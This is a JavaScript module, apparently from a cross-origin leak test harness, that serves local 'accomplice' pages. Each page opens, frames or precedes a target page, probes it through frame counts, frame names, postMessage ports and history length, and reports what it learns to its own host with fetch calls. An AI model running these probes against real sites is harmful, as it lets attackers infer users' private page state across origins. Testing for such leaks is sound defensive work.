// Pages of somebody who works together with the attacker: they open our page, frame it, or stand
// before it in the tab's history. What they come to know they tell their own host.
import { createServer } from 'node:http';
import { once } from 'node:events';

const common = `
const query = new URLSearchParams(location.search);
const target = query.get('target');
const tell = (channel, detail) =>
  fetch('/told?' + new URLSearchParams({ attempt: query.get('attempt'), channel, detail }));
const way = location.pathname.slice(1);
addEventListener('message', ({ data }) => data?.told && tell(data.told, way));
window.name = 'accomplice';
`;

// What can be seen of another window from outside.
const watch = `
function watch(other, count) {
  let isTold = {};
  const once = (channel) => { if (!isTold[channel]) tell(channel, way); isTold[channel] = true; };
  setInterval(() => {
    try { if (other.length === count || other[0]?.length === count) once('frameCount'); } catch {}
    try { if (other[0]?.[0]?.length === count) once('frameCount'); } catch {}
    const name = 'secret-' + query.get('attempt') + '-frameName-end';
    try { if (other[name] || other[0]?.[name]) once('frameName'); } catch {}
  }, 100);
  addEventListener('hashchange', () => tell(location.hash.slice(1), way));
  // A message from outside: an answer may come through its source, or through its port.
  const post = (place) => {
    const { port1, port2 } = new MessageChannel();
    port1.onmessage = ({ data }) => data?.told && tell(data.told, way);
    place.postMessage('hello', '*', [port2]);
  };
  setInterval(() => {
    for (const find of [() => other, () => other[0], () => other[0][0]]) {
      try { post(find()); } catch {}
    }
  }, 300);
}
`;

const bodies = {
  'opener-link': `
const link = document.body.appendChild(document.createElement('a'));
Object.assign(link, { href: target, target: '_blank', rel: 'opener', textContent: 'x' });
Object.assign(link.style, { position: 'fixed', inset: 0 });
addEventListener('hashchange', () => tell(location.hash.slice(1), way));
`,
  'opener-open': `${watch}
document.documentElement.style.height = '100%';
addEventListener('click', () => {
  globalThis.other = open(target, 'ours');
  watch(other, Number(query.get('count')));
}, { once: true });
`,
  embedder: `${watch}
const frame = document.body.appendChild(document.createElement('iframe'));
Object.assign(frame, { src: target });
Object.assign(frame.style, { position: 'fixed', inset: 0, width: '100%', height: '100%', border: 0 });
watch(frame.contentWindow, Number(query.get('count')));
`,
  // Comes to know how many entries came after it.
  before: `
const first = Number(sessionStorage.first ?? history.length);
sessionStorage.first = first;
addEventListener('pageshow', () => {
  document.title = 'before ' + history.length;
  const more = history.length - first - 1;
  if (more > Number(query.get('most'))) tell(query.get('channel'), more + ' entries');
});
`,
};

const pageOf = (name) => `<!DOCTYPE html><html lang="en"><meta charset="utf-8"><title>${name}</title>
<body><script>${common}${bodies[name]}</script></body></html>`;

export const ways = ['opener-link', 'opener-open', 'embedder'];

// `note` writes down what they tell.
export async function openAccomplices(note) {
  const server = createServer(({ url }, response) => {
    const { pathname, searchParams } = new URL(url, 'http://accomplice');
    if (pathname === '/told') {
      const of = (name) => searchParams.get(name);
      note(of('attempt'), of('channel'), 'W', of('detail'));
    }
    const name = pathname.slice(1);
    const isPage = Object.hasOwn(bodies, name);
    response.writeHead(isPage ? 200 : 204, { 'Content-Type': 'text/html' });
    response.end(isPage ? pageOf(name) : '');
  });
  // Another host than the page's own, but on this machine as that one is.
  server.listen(0, '127.0.0.2');
  await once(server, 'listening');
  const origin = `http://127.0.0.2:${server.address().port}`;
  return {
    origin,
    address: (name, query) => `${origin}/${name}?${new URLSearchParams(query)}`,
    close() {
      server.close();
      server.closeAllConnections();
    },
  };
}
